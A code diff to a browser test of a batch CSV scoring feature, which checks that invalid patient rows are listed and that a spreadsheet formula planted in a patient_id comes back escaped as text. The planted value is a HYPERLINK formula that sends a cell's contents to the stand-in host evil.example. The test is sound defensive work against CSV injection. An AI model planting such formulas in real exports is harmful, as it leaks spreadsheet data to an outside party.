@@ -119,6 +119,8 @@ def test_a_batch_csv_is_scored_and_its_invalid_rows_are_listed(browser_page: Pag
         rows = [{"patient_id": f"P{k:03d}", **row} for k, row in enumerate(list(csv.DictReader(handle))[:20])]
     rows[3]["age"] = "forty"
     rows[7]["smoker"] = "sometimes"
+    formula = '=HYPERLINK("http://evil.example/?"&B2,"open")'  # a spreadsheet would run it: it comes back as text
+    rows[0]["patient_id"] = formula
     upload = tmp_path / "patients.csv"
     with upload.open("w", newline="") as handle:
         writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
@@ -139,7 +141,8 @@ def test_a_batch_csv_is_scored_and_its_invalid_rows_are_listed(browser_page: Pag
     assert [int(row["line"]) for row in scored] == [n for n in range(2, 22) if n not in (5, 9)]
     assert all(0 < float(row["prediction"]) < 1 for row in scored)
     # The columns the spec does not know come back beside their rows: results join back to the patients.
-    assert [row["patient_id"] for row in scored] == [f"P{k:03d}" for k in range(20) if k not in (3, 7)]
+    assert [row["patient_id"] for row in scored] == [f"'{formula}"] + [f"P{k:03d}" for k in range(1, 20)
+                                                                       if k not in (3, 7)]
     assert {row["class"] for row in scored} <= {"0", "1"}
     page.screenshot(path=SCREENSHOTS / "batch.png", full_page=True)
 
